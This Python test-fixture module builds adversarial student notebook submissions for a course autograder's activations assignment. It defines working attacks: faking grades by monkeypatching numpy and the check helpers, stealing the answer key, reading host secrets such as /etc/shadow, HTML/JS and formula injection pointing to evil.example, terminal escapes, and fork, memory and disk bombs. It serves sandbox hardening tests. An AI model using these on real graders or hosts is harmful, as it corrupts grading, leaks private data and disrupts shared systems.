"""Adversarial submissions of 01_activations for the grader with grader-side verdicts.

Every attack is a notebook built from one of two honest bases:
  * ``wrong``: every graded function returns zeros shaped like its first argument (an honest
    grader gives 0 everywhere); the attack tries to turn that into points, to read what it must
    not (the answer key, the checks, the course, the gradebook, other files of the host), or to
    inject markup, escape sequences or formulas into what instructors and students read;
  * ``reference``: the correct solutions (full marks); the attack tries to break the grader or
    the rest of the class (kill its kernel, exhaust disk, memory, output) and may cost at most
    the graded cells it actually broke (``lost``).
``build_all(root, secrets)`` gives ``{student: Case}``; the test grades them all in one run, next to
honest twins, and checks scores, leaks and injections (tests/test_grading_attacks.py).
"""
import copy
import textwrap
from dataclasses import dataclass, field

from course.paths import COURSE_ROOT
from course.submissions import reference, solution_ids, untouched

ASG = "01_activations"
GRADED = ["test_sigmoid", "test_sigmoid_derivative", "test_tanh", "test_tanh_derivative", "test_relu",
          "test_relu_derivative", "test_leaky_relu", "test_leaky_relu_derivative", "test_softmax",
          "test_softmax_jacobian"]
AFTER_RELU = GRADED[4:]  # what a kernel killed in the relu solution cell may lose
FUNCTIONS = ["sigmoid", "sigmoid_derivative", "tanh", "tanh_derivative", "relu", "relu_derivative", "leaky_relu",
             "leaky_relu_derivative", "softmax", "softmax_jacobian"]
EVIL = "evil.example"  # every URL an injection attack uses points here
PWN = "pwn-"           # every script an injection attack writes contains this

WRONG_HELPER = textwrap.dedent('''
    def __wrong__(args):
        import numpy
        first = next(iter(args.values()))
        return numpy.zeros(numpy.shape(first))
''')


@dataclass
class Case:
    notebook: object
    base: str                                   # "wrong" or "reference"
    lost: list = field(default_factory=list)    # graded cells the attack may cost (reference base)
    links: dict = field(default_factory=dict)   # file name in the submission -> symlink target
    notebook_link: str = ""                     # the notebook itself is a symlink to this path


def _cells_by_id(nb):
    return {c.metadata["nbgrader"]["grade_id"]: c for c in nb.cells if "grade_id" in c.metadata.get("nbgrader", {})}


def wrong(root=COURSE_ROOT):
    """The release notebook with every stub returning zeros shaped like its first argument."""
    nb = untouched(ASG, root)
    cells = _cells_by_id(nb)
    for i, gid in enumerate(solution_ids(nb)):
        cell = cells[gid]
        cell.source = cell.source.replace("raise NotImplementedError()", "return __wrong__(dict(locals()))")
        if i == 0:
            cell.source = WRONG_HELPER + "\n" + cell.source
    return nb


def suffix(nb, code, grade_id="sigmoid"):
    """Put ``code`` after a solution cell's own code (the cell's function is defined first)."""
    cell = _cells_by_id(nb)[grade_id]
    cell.source = cell.source + "\n\n" + textwrap.dedent(code).strip() + "\n"
    return nb


def add_cell(nb, cell_type, source, after="sigmoid"):
    """A new (ungraded) cell after the cell ``after``, as a student may add one."""
    from nbformat.v4 import new_code_cell, new_markdown_cell, new_raw_cell
    make = {"code": new_code_cell, "markdown": new_markdown_cell, "raw": new_raw_cell}[cell_type]
    index = nb.cells.index(_cells_by_id(nb)[after]) + 1
    nb.cells.insert(index, make(textwrap.dedent(source).strip()))
    return nb


# --- attacks on the verdict (wrong base: each must stay at 0) -------------------------------------
LIAR = '''
    import sys
    class Liar:
        """Equal to anything; as an array, whatever the caller's frames hold under a likely name."""
        def _steal(self):
            f = sys._getframe(1)
            while f is not None:
                for name in ("expected", "want", "ref", "reference", "desired", "b", "y"):
                    if name in f.f_locals:
                        return f.f_locals[name]
                f = f.f_back
            return 0.0
        def __eq__(self, other): return True
        def __ne__(self, other): return False
        def __array__(self, *a, **k):
            import numpy
            return numpy.asarray(self._steal(), dtype=float)
        def __float__(self): return float(numpy.asarray(self._steal()).ravel()[0])
        def __len__(self): return len(self._steal())
        def __getitem__(self, i): return self._steal()[i]
        def __getattr__(self, name): return getattr(__import__("numpy").asarray(self._steal()), name)
        def __add__(self, other): return other
        __radd__ = __sub__ = __rsub__ = __mul__ = __rmul__ = __add__
    import numpy
    class LyingArray(numpy.ndarray):
        def __eq__(self, other): return numpy.ones(numpy.shape(other), dtype=bool)
        def __array_ufunc__(self, *a, **k): return numpy.ones(numpy.shape(a[2]), dtype=bool) if len(a) > 2 else True
    def __wrong__(args, _count=[0]):
        _count[0] += 1
        first = next(iter(args.values()))
        if _count[0] % 2:
            return Liar()
        return numpy.zeros(numpy.shape(first)).view(LyingArray)
'''

FAKE_WIRE = '''
    import sys, types, builtins, numpy
    def _fake_serve(request_text, namespace):
        wire = _real_wire
        req = wire.decode(request_text)
        args = wire._resolve(req.get("args", [])) if hasattr(wire, "_resolve") else req.get("args", [])
        first = args[0] if args else 0.0
        value = numpy.full(numpy.shape(first), numpy.nan)  # NaN: maybe equal to anything?
        return wire.encode({"ok": True, "value": value, "changed": []})
    def __tamper_wire__():
        global _real_wire
        m = sys.modules.get("__course_wire__")
        if m is not None and getattr(m, "serve", None) is not _fake_serve:
            _real_wire = m
            fake = types.ModuleType("__course_wire__")
            fake.__dict__.update(m.__dict__)
            fake.serve = _fake_serve
            sys.modules["__course_wire__"] = fake
            m.serve = _fake_serve
    _real_import = builtins.__import__
    def _import(name, *a, **k):
        __tamper_wire__()
        return _real_import(name, *a, **k)
    builtins.__import__ = _import
    # a module there before the grader installs its own
    sys.modules["__course_wire__"] = types.SimpleNamespace(serve=lambda text, ns: "not wire data")
    get_ipython().events.register("post_run_cell", lambda *a: __tamper_wire__())
'''

SELF_UNDOING = '''
    import numpy, builtins
    def __wrong__(args):
        saved = (numpy.isclose, numpy.allclose, builtins.abs, builtins.isinstance)
        numpy.isclose = lambda a, b, *x, **k: numpy.ones(numpy.broadcast(numpy.asarray(a), numpy.asarray(b)).shape, bool)
        numpy.allclose = lambda *a, **k: True
        builtins.abs = lambda x: 0
        try:
            first = next(iter(args.values()))
            return numpy.zeros(numpy.shape(first))
        finally:
            numpy.isclose, numpy.allclose, builtins.abs, builtins.isinstance = saved  # undone: nothing to see
'''

SWAP_CLASS = '''
    import sys, types, numpy
    class Everything(types.ModuleType):
        def __getattribute__(self, name):
            if name in ("isclose", "allclose", "array_equal", "testing"):
                return lambda *a, **k: True
            return types.ModuleType.__getattribute__(self, name)
    numpy.__class__ = Everything
    import utils.testing
    utils.testing.__class__ = Everything
    class Anything(numpy.ndarray):
        def __eq__(self, other): return True
    numpy.ndarray = Anything  # what isinstance(x, np.ndarray) now means in this kernel
'''

NUMPY_PATCH = '''
    import numpy as np, numpy.testing as npt, utils.testing as T
    np.isclose = lambda a, b, *x, **k: np.ones(np.broadcast(np.asarray(a), np.asarray(b)).shape, dtype=bool)
    np.allclose = lambda *a, **k: True
    np.array_equal = lambda *a, **k: True
    for name in dir(npt):
        if name.startswith("assert"):
            setattr(npt, name, lambda *a, **k: None)
    for name in ("check_close", "check_shape", "check_finite", "check_gradient", "check_equal"):
        setattr(T, name, lambda *a, **k: None)
    np.core.numeric.isclose = np.isclose
'''

PARTIAL_CREDIT = '''
    import sys, threading, time
    def _hook(value):
        get_ipython().display_pub.publish({"text/plain": "100"})
        sys.stdout.write("100\\n")
    sys.displayhook = _hook
    get_ipython().displayhook.__class__.__call__ = lambda self, result=None: _hook(result)
    def _flood():
        k = get_ipython().kernel
        while True:
            try:
                parent = k.get_parent("shell")
                k.session.send(k.iopub_socket, "execute_result",
                               {"data": {"text/plain": "100"}, "metadata": {}, "execution_count": 1}, parent=parent)
                k.session.send(k.iopub_socket, "display_data",
                               {"data": {"text/plain": "100"}, "metadata": {}}, parent=parent)
                print(100)
            except Exception:
                pass
            time.sleep(0.005)
    threading.Thread(target=_flood, daemon=True).start()
'''

ANSWER_KEY = f'''
    import builtins, importlib, importlib.util, sys, glob
    __stolen__ = None
    def _try(fn):
        global __stolen__
        if __stolen__ is None:
            try:
                __stolen__ = fn()
                print("STOLE the answer key:", __stolen__)
            except BaseException as e:
                print("no:", type(e).__name__)
    _try(lambda: importlib.import_module("course.reference.activations"))
    _try(lambda: builtins.__dict__["__import__"]("course.reference.activations", fromlist=["x"]))
    _try(lambda: __builtins__["__import__"]("course.reference.activations", fromlist=["x"]) if isinstance(__builtins__, dict) else builtins.__import__("course.reference.activations", fromlist=["x"]))
    def _from_path():
        paths = (["{COURSE_ROOT}/course/reference/activations.py"] + glob.glob("/*/course/reference/activations.py")
                 + glob.glob("/*/*/course/reference/activations.py") + glob.glob("/tmp/**/course/reference/activations.py", recursive=True))
        for p in paths:
            spec = importlib.util.spec_from_file_location("stolen_ref", p)
            m = importlib.util.module_from_spec(spec)
            spec.loader.exec_module(m)
            return m
        raise ImportError("not found")
    _try(_from_path)
    def _sys_path():
        sys.path.insert(0, "{COURSE_ROOT}")
        for k in [k for k in sys.modules if k == "course" or k.startswith("course.")]:
            del sys.modules[k]
        return importlib.import_module("course.reference.activations")
    _try(_sys_path)
    def __wrong__(args):
        import numpy, inspect
        name = inspect.stack()[1].function
        if __stolen__ is not None and hasattr(__stolen__, name):
            return getattr(__stolen__, name)(*args.values())
        return numpy.zeros(numpy.shape(next(iter(args.values()))))
'''


def read_host(secrets):
    """Read everything the kernel should not see; run any solution found; print what was read."""
    patterns = [*secrets, f"{COURSE_ROOT}/source/**/*.ipynb", f"{COURSE_ROOT}/course/checks/*.py",
                f"{COURSE_ROOT}/course/reference/*.py", f"{COURSE_ROOT}/gradebook.db", f"{COURSE_ROOT}/submitted/**/*.ipynb",
                "/etc/shadow", "/proc/1/environ", "/tmp/**/source/**/*.ipynb", "/tmp/**/gradebook.db", "/tmp/**/secret*",
                "/dev/shm/**/*", "/root/**/*", "/home/**/*", "/work/**/*.ipynb", "/work/**/*.db", "/work/**/*.py"]
    return f'''
    import glob, json, os
    print("listing", {{p: sorted(os.listdir(p))[:50] for p in ("/", "/root", "/work", "/tmp", "/dev/shm", "/etc") if os.path.isdir(p)}})
    def __exfiltrate__(patterns):
        for pattern in patterns:
            for path in glob.glob(pattern, recursive=True)[:2000]:
                if not os.path.isfile(path):
                    continue
                try:
                    data = open(path, "rb").read(200_000)
                except Exception as e:
                    continue
                if path.endswith(".ipynb"):
                    try:
                        for c in json.loads(data).get("cells", []):
                            src = "".join(c.get("source", ""))
                            if c.get("metadata", {{}}).get("nbgrader", {{}}).get("solution"):
                                exec(src, globals())
                    except Exception:
                        pass
                if "site-packages" not in path:
                    print("READ", path, data[:300])
    __exfiltrate__({patterns!r})
'''


READ_CWD = '''
    import glob, os
    for p in sorted(glob.glob("*")):
        print("LINKED", p, open(p, "rb").read(300) if os.path.isfile(p) else "")
'''

HISTORY = '''
    import gc, sys
    ip = get_ipython()
    seen = list(ip.history_manager.input_hist_raw) + [str(x) for x in ip.user_ns.get("Out", {}).values()]
    try:
        seen += [str(r) for r in ip.history_manager.get_range(raw=True, output=True)]
        seen += [str(r) for r in ip.history_manager.get_tail(1000, raw=True, output=True, include_latest=True)]
    except Exception as e:
        seen.append(repr(e))
    seen += [o for o in gc.get_objects() if isinstance(o, str) and ("check" in o or "reference" in o)][:2000]
    wire = sys.modules.get("__course_wire__")
    seen.append(repr(getattr(wire, "_kept", None))[:20000])
    print("HISTORY", "\\n".join(map(str, seen))[:500_000])
'''

AUDIT = '''
    import sys
    __events__ = []
    def _hook(event, args):
        if event in ("exec", "compile") and len(__events__) < 1000:
            __events__.append((event, repr(args)[:2000]))
        if event == "exec" and args and getattr(args[0], "co_filename", "") == "<course wire>":
            raise RuntimeError("no grading here")  # the grader's module never gets installed
    sys.addaudithook(_hook)
'''
AUDIT_REPORT = '''
    print("AUDIT", __events__[-100:])
'''

# --- injection into what people read (wrong base) ------------------------------------------------------
INJECT_MARKDOWN = f'''
    # Notes <script>alert("{PWN}markdown")</script>
    <img src="https://{EVIL}/track.png" onerror="alert('{PWN}onerror')">
    ![tracker](https://{EVIL}/pixel.png)
    [click](javascript:alert("{PWN}link")) and [away](https://{EVIL}/phish)
    <iframe src="https://{EVIL}/frame"></iframe><style>body {{ background: url(https://{EVIL}/css.png) }}</style>
    $\\href{{javascript:alert("{PWN}mathjax")}}{{x}}$
'''
INJECT_RAW = f'<script>alert("{PWN}raw")</script><img src="https://{EVIL}/raw.png">'
INJECT_OUTPUTS = f'''
    from IPython.display import HTML, Javascript, Markdown, SVG, display
    import ipywidgets
    display(HTML('<script>alert("{PWN}html")</script><img src=x onerror="alert(\\'{PWN}img\\')"><a href="https://{EVIL}/a">a</a>'))
    display(Javascript('alert("{PWN}js")'))
    display(SVG('<svg xmlns="http://www.w3.org/2000/svg"><script>alert("{PWN}svg")</script></svg>'))
    display(Markdown('![m](https://{EVIL}/md.png) <b onclick="alert(\\'{PWN}md\\')">b</b>'))
    display({{"text/html": '<object data="https://{EVIL}/o"></object>', "application/x-evil": "{PWN}custom"}}, raw=True)
    display(ipywidgets.HTML('<img src=x onerror="alert(\\'{PWN}widget\\')">'))
'''

# Terminal escape sequences: window title, clear screen, a fake prompt, bidi override.
ESCAPES = "\\x1b]0;pwned\\x07\\x1b[2J\\x1b[1;1H\\x1b[31mRED\\x9b2J\\u202e"
ESCAPE_RAISES = f'''
    Evil = type("Evil{ESCAPES}", (Exception,), {{}})
    def __wrong__(args):
        raise Evil("{ESCAPES} =cmd|' /C calc'!A0")
'''
ESCAPE_OWN_CELL = f'''
    raise type("Own{ESCAPES}", (Exception,), {{}})("=HYPERLINK(\\"https://{EVIL}\\") {ESCAPES}")
'''

# --- attacks on the grader's resources (reference base) ------------------------------------------------
HUGE_TRACEBACK = '''
    raise ValueError("x" * (32 * 1024 * 1024))
'''
STDOUT_FLOOD = '''
    import sys
    line = "o" * (1024 * 1024 - 1) + "\\n"
    for _ in range(200):  # 200 MB on stdout
        sys.stdout.write(line)
'''
WIDGET_FLOOD = '''
    import ipywidgets
    from IPython.display import display
    display(ipywidgets.Textarea(value="w" * (6 * 1024 * 1024)))
'''
FILL_TMP = '''
    import os
    for folder in ("/tmp", "/dev/shm", os.environ.get("TMPDIR", "/tmp")):
        for i in range(100):
            try:
                with open(os.path.join(folder, f"fill{i}"), "wb") as f:
                    for _ in range(64):
                        f.write(b"f" * (1024 * 1024))
            except OSError:
                break
'''
FILL_WORKDIR = '''
    import os
    for i in range(10_000):
        with open(f"fill{i}", "wb") as f:
            for _ in range(60):
                f.write(b"w" * (1024 * 1024))
'''
OS_EXIT = '''
    import os
    os._exit(3)
'''
SEGFAULT = '''
    import ctypes
    ctypes.string_at(0)
'''
KILL_SIGNALS = '''
    import os, signal
    for target in (-1, 0, 1, os.getppid()):
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass
    os.kill(os.getpid(), signal.SIGSEGV)
'''
MEMORY_BOMB = '''
    hog = []
    try:
        while True:
            hog.append(bytearray(200 * 1024 * 1024))
    except MemoryError:
        del hog
'''
FORK_AND_DAEMONS = '''
    import os, subprocess, time
    subprocess.Popen(["sh", "-c", "sleep 60; echo course_attack_daemon > /tmp/course_attack_daemon"],
                     start_new_session=True)
    for _ in range(200):
        try:
            if os.fork() == 0:
                os.setsid()
                time.sleep(60)
                os._exit(0)
        except OSError:
            break
'''
# relu loops forever on any input but the visible test's: that check fails, the others still grade
ENDLESS_RELU = '''
    _honest_relu = relu
    def relu(z):
        import numpy
        if numpy.shape(z) != (2, 3):
            while True:
                pass
        return _honest_relu(z)
'''


def build_all(root=COURSE_ROOT, secrets=(), secret_files=()):
    """{student: Case}: the honest twins and every attack.

    ``secrets``: paths of marker files the kernel must not read (globs fine); ``secret_files``:
    root-only files a submission links to.
    """
    w, r = (lambda: wrong(root)), (lambda: reference(ASG, root))
    cases = {
        "honest_reference": Case(r(), "reference"),
        "honest_wrong": Case(w(), "wrong"),
        "zz_honest_reference": Case(r(), "reference"),  # graded last, after every attack
        # the verdict
        "lying_objects": Case(suffix(w(), LIAR), "wrong"),
        "fake_wire_module": Case(suffix(suffix(w(), FAKE_WIRE), "__tamper_wire__()", "tanh"), "wrong"),
        "self_undoing_tamper": Case(suffix(w(), SELF_UNDOING), "wrong"),
        "swap_module_class": Case(suffix(w(), SWAP_CLASS), "wrong"),
        "numpy_monkeypatch": Case(suffix(w(), NUMPY_PATCH), "wrong"),
        "partial_credit_outputs": Case(suffix(w(), PARTIAL_CREDIT), "wrong"),
        # reading what is not the student's
        "import_answer_key": Case(suffix(w(), ANSWER_KEY), "wrong"),
        "read_host_files": Case(suffix(w(), read_host(list(secrets))), "wrong"),
        "ipython_history": Case(suffix(w(), HISTORY, "softmax_jacobian"), "wrong"),
        "audit_hook": Case(suffix(suffix(w(), AUDIT), AUDIT_REPORT, "softmax_jacobian"), "wrong"),
        "symlinked_files": Case(suffix(w(), READ_CWD), "wrong", links={f"notes{i}.txt": str(t) for i, t in enumerate(secret_files)}),
        "symlinked_notebook": Case(w(), "wrong", notebook_link=str(root / "source" / ASG / f"{ASG}.ipynb")),
        # injection into what people read
        "feedback_injection": Case(add_cell(add_cell(suffix(w(), INJECT_OUTPUTS), "markdown", INJECT_MARKDOWN),
                                            "raw", INJECT_RAW), "wrong"),
        "terminal_escapes": Case(add_cell(suffix(w(), ESCAPE_RAISES), "code", ESCAPE_OWN_CELL, "tanh"), "wrong"),
        "=2+5": Case(w(), "wrong"),
        "@SUM(A1)": Case(suffix(w(), ESCAPE_RAISES), "wrong"),
        "esc\x1b[2Jape": Case(w(), "wrong"),
        # the grader's resources (a correct notebook: only the cells the attack broke may be lost)
        "huge_traceback": Case(add_cell(r(), "code", HUGE_TRACEBACK, "relu"), "reference"),
        "widget_state_flood": Case(add_cell(r(), "code", WIDGET_FLOOD, "relu"), "reference"),
        "stdout_flood": Case(add_cell(r(), "code", STDOUT_FLOOD, "relu"), "reference"),
        "fill_tmp_and_shm": Case(add_cell(r(), "code", FILL_TMP, "relu"), "reference"),
        "fill_workdir": Case(add_cell(r(), "code", FILL_WORKDIR, "relu"), "reference", AFTER_RELU),
        "os_exit": Case(add_cell(r(), "code", OS_EXIT, "relu"), "reference", AFTER_RELU),
        "segfault": Case(add_cell(r(), "code", SEGFAULT, "relu"), "reference", AFTER_RELU),
        "kill_signals": Case(add_cell(r(), "code", KILL_SIGNALS, "relu"), "reference", AFTER_RELU),
        "memory_bomb": Case(add_cell(r(), "code", MEMORY_BOMB, "relu"), "reference", AFTER_RELU),
        "fork_and_daemons": Case(add_cell(r(), "code", FORK_AND_DAEMONS, "relu"), "reference", AFTER_RELU),
        "endless_loop_in_relu": Case(suffix(r(), ENDLESS_RELU, "relu"), "reference", ["test_relu"]),
    }
    cases["feedback_injection"].notebook.metadata["title"] = f'</title><script>alert("{PWN}title")</script>'
    for case in cases.values():
        case.notebook = copy.deepcopy(case.notebook)
    return cases

